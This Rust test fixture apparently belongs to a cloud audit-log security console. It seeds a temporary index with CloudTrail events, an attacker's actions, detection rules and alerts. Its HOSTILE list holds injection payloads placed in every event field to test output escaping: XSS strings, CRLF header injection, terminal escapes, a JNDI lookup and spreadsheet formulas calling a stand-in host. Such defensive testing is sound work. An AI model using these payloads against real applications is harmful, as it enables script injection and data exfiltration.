//! A small installation in a temporary folder: a log, an index with a day of events, a store with alerts, rules.

pub(crate) mod story;

use std::net::SocketAddr;
use std::sync::atomic::{AtomicI64, Ordering};
use std::sync::{Arc, Mutex};

use alerting::{Policy, Store};
use axum::Router;
use bus::embedded::{EmbeddedBus, Options};
use bus::{Bus, Stop, Topic};
use console::{App, AuditEvent, Check, Config, Injection, Stage};
use event::inventory::{Account, Inventory};
use event::source::{Arrival, Collector, Feed, SourceRecord};
use event::{Event, Finding, Id, Outcome, RuleInfo, Severity, Str, Time};
use search::Searcher;
use search::offline::OfflineIndex;

pub(crate) const HOUR: i64 = 3_600_000_000;
const MINUTE: i64 = 60_000_000;

/// Texts that a log author may put anywhere; each would leave a mark in a page that obeyed it.
pub(crate) const HOSTILE: &[&str] = &[
    "<script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "\"><svg onload=document.title='pwned'>",
    "'><iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
    "javascript:document.title='pwned'",
    "<a href=\"javascript:document.title='pwned'\" autofocus onfocus=document.title='pwned'>x</a>",
    "</textarea></title></style></script><script>document.title='pwned'</script>",
    "<style>@import url(http://192.0.2.99/x.css)</style><link rel=stylesheet href=http://192.0.2.99/x>",
    "<meta http-equiv=refresh content=\"0;url=http://192.0.2.99/\">",
    "<form action=http://192.0.2.99><input name=x><button>go</button></form>",
    "<div hx-get=\"/logout\" hx-trigger=\"load\" hx-on:load=\"document.title='pwned'\">x</div>",
    "<base href=http://192.0.2.99/>",
    "{{constructor.constructor('document.title=1')()}} ${jndi:ldap://192.0.2.99/a} %{7*7} <%= 7*7 %>",
    "\u{1b}]0;pwned\u{7}\u{1b}[31mred\u{1b}[0m",
    "user\u{202e}gnp.exe \u{200b}\u{feff}p\u{430}ypal",
    "a\r\nSet-Cookie: pwned=1\r\n\r\n<b>b</b>",
    "=HYPERLINK(\"http://192.0.2.99\",\"x\")",
];

pub(crate) struct World {
    pub(crate) store: Arc<Store>,
    pub(crate) bus: Arc<dyn Bus>,
    pub(crate) audit: Arc<Mutex<Vec<AuditEvent>>>,
    pub(crate) clock: Arc<AtomicI64>,
    pub(crate) stop: Stop,
    pub(crate) events: Vec<Event>,
    searcher: Searcher,
    pub(crate) holds: Arc<search::hold::Holds>,
    ledger: Arc<bus::ledger::Ledger>,
    registry: prometheus::Registry,
    metrics: console::Metrics,
    next: AtomicI64,
    _dir: tempfile::TempDir,
}

/// A node that cannot be reached.
struct Away;

impl search::nodes::Node for Away {
    fn ask(
        &self,
        _: &search::nodes::Question,
    ) -> Result<search::nodes::Reply, search::nodes::Unanswered> {
        let why = "connection refused <b>".to_owned();
        Err(search::nodes::Unanswered::Unreachable(why))
    }
}

impl World {
    /// With alerts of people and an attacker.
    pub(crate) fn new() -> World {
        World::with(|_| Vec::new())
    }

    /// The same and alerts that consist of hostile texts.
    pub(crate) fn hostile() -> World {
        let world = World::new();
        let rule = &rules()[5];
        for event in world
            .events
            .iter()
            .filter(|e| e.source_id.starts_with("hostile"))
        {
            let mut rule = rule.clone();
            rule.title = event.actor.to_string();
            rule.id = format!("{}{}", rule.id, event.source_id);
            world.find(finding(&rule, event));
        }
        world
    }

    /// With other events beside those of the day.
    fn with(more: impl FnOnce(Time) -> Vec<Event>) -> World {
        let world = World::of(more);
        world.seed();
        world
    }

    fn of(more: impl FnOnce(Time) -> Vec<Event>) -> World {
        let dir = tempfile::tempdir().unwrap();
        let start = Time::parse("2026-11-22T12:00:00Z").unwrap();
        let clock = Arc::new(AtomicI64::new(start.0));
        let ticking = clock.clone();
        let clock_fn: event::Clock = Arc::new(move || Time(ticking.load(Ordering::SeqCst)));
        let bus = EmbeddedBus::open(&dir.path().join("bus"), Options::default()).unwrap();
        let policy = Policy::new(&alerting::Config::default()).unwrap();
        let store = Store::open(&dir.path().join("alerts.db"), policy).unwrap();
        let mut events = events(start);
        events.extend(more(start));
        let index = dir.path().join("index");
        let config = search::Config::default();
        let mut writer = OfflineIndex::create(&index, &config).unwrap();
        for event in &events {
            writer.add(event).unwrap();
        }
        writer.finish().unwrap();
        let registry = prometheus::Registry::new();
        let metrics = search::Metrics::new(&registry).unwrap();
        let searcher = Searcher::open(&index, &config, metrics, clock_fn).unwrap();
        let bus: Arc<dyn Bus> = Arc::new(bus);
        World {
            store: Arc::new(store),
            holds: Arc::new(search::hold::Holds::open(bus.clone(), &index).unwrap()),
            bus,
            audit: Arc::default(),
            clock,
            stop: Stop::default(),
            searcher,
            ledger: Arc::new(bus::ledger::Ledger::open(dir.path(), None).unwrap()),
            metrics: console::Metrics::new(&registry).unwrap(),
            registry,
            next: AtomicI64::new(0),
            events,
            _dir: dir,
        }
    }

    pub(crate) fn now(&self) -> Time {
        Time(self.clock.load(Ordering::SeqCst))
    }

    pub(crate) fn router(&self, config: Config) -> Router {
        self.router_over(self.searcher.clone().into(), config)
    }

    /// The same where this is one index node of two, and the other is not there.
    pub(crate) fn router_of_a_part(&self, config: Config) -> Router {
        let search = search::Config {
            nodes: 2,
            ..search::Config::default()
        };
        let metrics = search::Metrics::new(&prometheus::Registry::new()).unwrap();
        let clock = self.clock.clone();
        let clock: event::Clock = Arc::new(move || Time(clock.load(Ordering::SeqCst)));
        let away = search::nodes::Other {
            node: 1,
            name: "https://index-1:7171".into(),
            way: Arc::new(Away),
        };
        let own = Some(self.searcher.clone());
        let nodes = search::Nodes::new(own, vec![away], &search, metrics, clock);
        nodes.look();
        self.router_over(nodes, config)
    }

    fn router_over(&self, nodes: search::Nodes, config: Config) -> Router {
        let clock = self.clock.clone();
        let (audit, rules) = (self.audit.clone(), Arc::new(rules()));
        let bus = self.bus.clone();
        let injections = vec![
            Injection {
                start: self.now().plus(-9 * MINUTE),
                end: self.now().plus(-8 * MINUTE),
                title: "The audit trail is stopped".into(),
                account: "111122223333".into(),
                actor: "arn:aws:iam::111122223333:user/mallory".into(),
                source_ip: "203.0.113.50".into(),
                expect: vec!["CloudTrail logging was stopped".into()],
                event_ids: vec!["ev-0".into()],
                decoy: false,
            },
            Injection {
                start: self.now().plus(-5 * MINUTE),
                end: self.now().plus(-4 * MINUTE),
                title: "Three failed logins of a person who then got in".into(),
                actor: "arn:aws:iam::111122223333:user/carol".into(),
                decoy: true,
                ..Injection::default()
            },
        ];
        let app = App {
            searcher: nodes,
            store: self.store.clone(),
            rules: Arc::new(move || rules.clone()),
            reload: Arc::new(|| Ok("unchanged".to_owned())),
            explain: Arc::new(|_, event| vec![format!("selection: action = {}", event.action)]),
            rule_query: Arc::new(|id, _| {
                let rules = crate::world::rules();
                let burst = rules.iter().find(|r| r.id == id && r.correlation.is_some());
                burst.map(|_| "outcome:denied".to_owned())
            }),
            as_rule: Arc::new(|query| match query.contains('*') {
                true => Err("a word of it is free text".to_owned()),
                false => Ok(format!("title: Search {query}\n")),
            }),
            stages: vec![Stage::on_bus(&bus, "match", "match", Topic::Events)],
            watched: alerting::watch::Config::default().options(),
            blind: Arc::new(|_| {
                vec![alerting::watch::Blind {
                    title: "A rule that is blind".into(),
                    severity: Severity::High,
                }]
            }),
            integrity: Arc::new(|event| {
                if event.source_id == "ev-0" {
                    event.integrity = event::Integrity::Attested;
                }
            }),
            evidence: Some(console::Evidence {
                ledger: self.ledger.clone(),
                vouched: Arc::new(|_| (event::Integrity::Received, None)),
                tool: "trailwarden test".to_owned(),
            }),
            index: Some(console::Index {
                holds: self.holds.clone(),
                searcher: self.searcher.clone(),
                node: 0,
                nodes: 2,
            }),
            inventory: Arc::new(|| Arc::new(inventory())),
            bus,
            offers: console::Offers {
                alerts: true,
                search: true,
            },
            checks: vec![Check {
                name: "log",
                run: Arc::new(|| Ok("writes are durable".into())),
            }],
            clock: Arc::new(move || Time(clock.load(Ordering::SeqCst))),
            registry: self.registry.clone(),
            metrics: self.metrics.clone(),
            config,
            tls: false,
            demo: Some(Arc::new(move || injections.clone())),
            audit: Arc::new(move |event| audit.lock().unwrap().push(event)),
            stop: self.stop.clone(),
        };
        let takes = |path| Router::new().route(path, axum::routing::post(|| async { "taken" }));
        let intake = console::Intake {
            guarded: takes("/api/v1/events"),
            keyed: takes("/api/v1/firehose"),
        };
        console::router(app, Some(intake)).unwrap()
    }

    /// Serves on a free port of loopback until the runtime ends.
    pub(crate) async fn serve(&self, config: Config) -> SocketAddr {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        let service = self
            .router(config)
            .into_make_service_with_connect_info::<SocketAddr>();
        tokio::spawn(async move { axum::serve(listener, service).await });
        address
    }

    /// Folds a finding into an alert, as the alerting stage does; the alert's id.
    pub(crate) fn find(&self, finding: Finding) -> Id {
        let at = self.next.fetch_add(1, Ordering::SeqCst) as u64;
        let id = finding.episode;
        self.store
            .apply(&[(at, finding)], 0, at, at + 1, self.now())
            .unwrap();
        id
    }

    /// What arrives: an account as usual, one that fell silent two hours ago, a collector that fails, and hostile names.
    fn seed_sources(&self) {
        let options = alerting::watch::Config::default().options();
        let mut watch = alerting::watch::Watch::default();
        let begin = self.now().plus(-3 * 1_440 * MINUTE);
        for minute in (0..=3 * 1_440).step_by(5) {
            let now = begin.plus(minute * MINUTE);
            for account in ["111122223333", "444455556666"] {
                if account == "444455556666" && minute > 3 * 1_440 - 120 {
                    continue;
                }
                let arrival = Arrival {
                    feed: Feed {
                        source: "aws.cloudtrail".into(),
                        account: account.into(),
                        region: "eu-west-1".into(),
                    },
                    partition: 0,
                    events: minute as u64 + 1,
                    last_ingest: now,
                    last_event: now,
                    delay: 4 * MINUTE,
                };
                watch.take(SourceRecord::Arrival(arrival), &options);
            }
            watch.judge(now, Time::MIN, &options, &|_| Vec::new());
        }
        for hostile in HOSTILE {
            let feed = Feed {
                source: (*hostile).into(),
                account: (*hostile).into(),
                region: (*hostile).into(),
            };
            let arrival = Arrival {
                feed,
                partition: 0,
                events: 1,
                last_ingest: self.now(),
                last_event: self.now(),
                delay: 0,
            };
            watch.take(SourceRecord::Arrival(arrival), &options);
        }
        for (n, message) in HOSTILE.iter().copied().chain(["AccessDenied"]).enumerate() {
            let collector = Collector {
                node: "node-1".into(),
                kind: "queue".into(),
                name: format!("trail-{n}").into(),
                at: self.now(),
                failing: Some(self.now().plus(-9 * MINUTE)),
                fault: "denied".into(),
                message: message.into(),
                hint: "allow sqs:ReceiveMessage".into(),
                ..Collector::default()
            };
            watch.take(SourceRecord::Collector(collector), &options);
        }
        self.store.save_sources(&mut watch, &[]).unwrap();
    }

    fn seed(&self) {
        self.seed_sources();
        let rules = rules();
        let attack: Vec<&Event> = self
            .events
            .iter()
            .filter(|e| e.actor.contains("mallory"))
            .collect();
        for (rule, event) in rules.iter().zip(&attack) {
            self.find(finding(rule, event));
        }
        let others = self
            .events
            .iter()
            .filter(|e| !e.actor.contains("mallory") && e.outcome == Outcome::Denied);
        for (i, event) in others.step_by(9).take(4).enumerate() {
            self.find(finding(&rules[2 + i % 4], event));
        }
    }
}

/// A finding of a rule on an event.
pub(crate) fn finding(rule: &RuleInfo, event: &Event) -> Finding {
    let id = Finding::event_id(&rule.id, event.id);
    let mut finding = Finding {
        id,
        episode: id,
        rule_id: Str::from(&rule.id),
        title: Str::from(&rule.title),
        severity: rule.severity,
        tags: rule.tags.iter().map(Str::from).collect(),
        ..Finding::from_event(event)
    };
    if rule.correlation.is_some() {
        finding.group = [("src_ip".into(), Some(event.src_ip.clone()))].into();
        finding.count = 14;
        finding.first_event_time = event.time.plus(-3 * MINUTE);
    }
    finding
}

pub(crate) fn rules() -> Vec<RuleInfo> {
    let rule = |id: &str, title: &str, severity, description: &str, correlation: Option<&str>| {
        RuleInfo {
            id: id.into(),
            title: title.into(),
            description: description.into(),
            author: "Trailwarden".into(),
            severity,
            staged: false,
            status: "test".into(),
            tags: vec!["attack.defense-evasion".into(), "attack.t1562.008".into()],
            false_positives: vec![
                "A planned change of the audit set-up by the platform team.".into(),
            ],
            next_steps: vec![
                "Ask the owner of the identity whether they did this.".into(),
                "Start logging again, then look at what was done in between.".into(),
                "Deactivate the access key if nobody knows of it.".into(),
            ],
            references: vec![
                "https://attack.mitre.org/techniques/T1562/008/".into(),
                "javascript:alert(1)".into(),
            ],
            yaml: format!(
                "title: {title}\nid: {id}\nlogsource:\n    product: aws\n    service: cloudtrail\ndetection:\n    selection:\n        eventName: StopLogging\n    condition: selection\nlevel: {severity}\n"
            ),
            file: "rules/aws/cloudtrail/stop_logging.yml".into(),
            correlation: correlation.map(str::to_owned),
        }
    };
    vec![
        rule(
            "5f2e1c1a-6a53-4f2e-9a57-1e3f6a1d0001",
            "CloudTrail logging was stopped",
            Severity::Critical,
            "Somebody stopped a trail. From then on calls in this account leave no record, which is what an intruder wants before anything else.",
            None,
        ),
        rule(
            "5f2e1c1a-6a53-4f2e-9a57-1e3f6a1d0002",
            "Access key made for another user",
            Severity::High,
            "A user made an access key that belongs to somebody else: a way to come back.",
            None,
        ),
        rule(
            "5f2e1c1a-6a53-4f2e-9a57-1e3f6a1d0003",
            "Many refused calls by one identity",
            Severity::Medium,
            "One identity was refused more often than its work explains.",
            Some("event_count"),
        ),
        rule(
            "5f2e1c1a-6a53-4f2e-9a57-1e3f6a1d0004",
            "Console login without a second factor",
            Severity::Medium,
            "A person logged in to the console with a password only.",
            None,
        ),
        rule(
            "5f2e1c1a-6a53-4f2e-9a57-1e3f6a1d0005",
            "Secrets read in a burst",
            Severity::High,
            "Many secrets were read within minutes.",
            Some("event_count"),
        ),
        rule(
            "5f2e1c1a-6a53-4f2e-9a57-1e3f6a1d0006",
            "Security group opened",
            Severity::Low,
            "A port was opened to the world.",
            None,
        ),
    ]
}

/// A day of events: people at work, one attacker, and hostile texts in every field.
fn events(now: Time) -> Vec<Event> {
    let mut out = Vec::new();
    let people = ["alice", "bob", "carol", "terraform", "deploy-bot"];
    let calls = [
        ("ec2", "DescribeInstances"),
        ("s3", "GetObject"),
        ("iam", "ListUsers"),
        ("sts", "AssumeRole"),
        ("lambda", "Invoke"),
        ("secretsmanager", "GetSecretValue"),
        ("ec2", "AuthorizeSecurityGroupIngress"),
    ];
    for i in 0..400_i64 {
        let person = people[(i * 7 % 5) as usize];
        let (service, action) = calls[(i * 5 % 7) as usize];
        let denied = i % 11 == 3;
        // More in the last hours than before, as in an office.
        let time = now.plus(-(i * i * 24 * HOUR / 160_000) - 10 * MINUTE);
        out.push(event(
            &format!("ev-w{i}"),
            time,
            person,
            service,
            action,
            denied,
            &format!("198.51.100.{}", i * 7 % 5 * 8 + i % 3),
        ));
    }
    let attack = [
        ("cloudtrail", "StopLogging", false),
        ("iam", "CreateAccessKey", false),
        ("s3", "ListBuckets", true),
        ("signin", "ConsoleLogin", false),
        ("secretsmanager", "GetSecretValue", false),
    ];
    for (i, (service, action, denied)) in attack.into_iter().enumerate() {
        let time = now.plus(-9 * MINUTE + i as i64 * 20_000_000);
        out.push(event(
            &format!("ev-{i}"),
            time,
            "mallory",
            service,
            action,
            denied,
            "203.0.113.50",
        ));
    }
    for (i, text) in HOSTILE.iter().enumerate() {
        let mut event = event(
            &format!("hostile-{i}"),
            now.plus(-2 * HOUR),
            text,
            text,
            text,
            true,
            text,
        );
        let t = Str::from(*text);
        for field in [
            &mut event.actor,
            &mut event.identity,
            &mut event.actor_id,
            &mut event.session,
            &mut event.region,
            &mut event.user_agent,
            &mut event.error_code,
            &mut event.error_message,
            &mut event.function,
            &mut event.access_key,
        ] {
            *field = t.clone();
        }
        event.account = Str::from(format!("{i}{text}"));
        event.resources = vec![t.clone()];
        event.origin.object = t;
        event.raw = serde_json::json!({"userAgent": text, "userIdentity": {"userName": text, *text: [text, {"x": text}]}}).to_string().into();
        out.push(event);
    }
    out
}

fn event(
    id: &str,
    time: Time,
    person: &str,
    service: &str,
    action: &str,
    denied: bool,
    ip: &str,
) -> Event {
    let arn = format!("arn:aws:iam::111122223333:user/{person}");
    let raw = serde_json::json!({
        "eventVersion": "1.10", "eventTime": time, "eventSource": format!("{service}.amazonaws.com"), "eventName": action,
        "awsRegion": "eu-central-1", "sourceIPAddress": ip, "userAgent": "aws-cli/2.15.30 Python/3.11.8 Linux/6.1",
        "userIdentity": {"type": "IAMUser", "arn": arn, "userName": person, "accountId": "111122223333", "sessionContext": {"attributes": {"mfaAuthenticated": "false"}}},
        "requestParameters": {"name": "org-trail", "filters": [{"name": "tag:team", "values": ["platform"]}]},
        "errorCode": denied.then_some("AccessDenied"), "recipientAccountId": "111122223333", "eventID": id,
    });
    Event {
        id: Id::cloudtrail("111122223333", id),
        source_id: id.into(),
        source: "aws.cloudtrail".into(),
        time,
        ingest_time: time.plus(90_000_000),
        account: "111122223333".into(),
        region: "eu-central-1".into(),
        category: "Management".into(),
        service: format!("{service}.amazonaws.com").into(),
        action: action.into(),
        outcome: if denied {
            Outcome::Denied
        } else {
            Outcome::Success
        },
        error_code: if denied {
            "AccessDenied".into()
        } else {
            Str::default()
        },
        error_message: if denied {
            format!("User: {arn} is not authorized to perform: {service}:{action}").into()
        } else {
            Str::default()
        },
        actor: arn.clone().into(),
        actor_type: "IAMUser".into(),
        actor_id: arn.into(),
        identity: person.into(),
        access_key: format!(
            "AKIAEXAMPLE{}",
            person.to_uppercase().chars().take(9).collect::<String>()
        )
        .into(),
        mfa: Some(false),
        src_ip: ip.into(),
        user_agent: "aws-cli/2.15.30 Python/3.11.8 Linux/6.1".into(),
        resources: vec![
            format!("arn:aws:{service}:eu-central-1:111122223333:trail/org-trail").into(),
        ],
        origin: event::Origin {
            object: "s3://trail-bucket/AWSLogs/111122223333/a.json.gz".into(),
            position: 3,
            sha256: Str::default(),
        },
        raw: raw.to_string().into(),
        ..Event::default()
    }
}

fn inventory() -> Inventory {
    let account = |number: &str, name: &str| Account {
        account: number.into(),
        name: name.into(),
        ..Account::default()
    };
    Inventory::new(
        vec![
            account("111122223333", "payments"),
            account("777788889999", "<b>never</b> seen"),
        ],
        Vec::new(),
    )
}
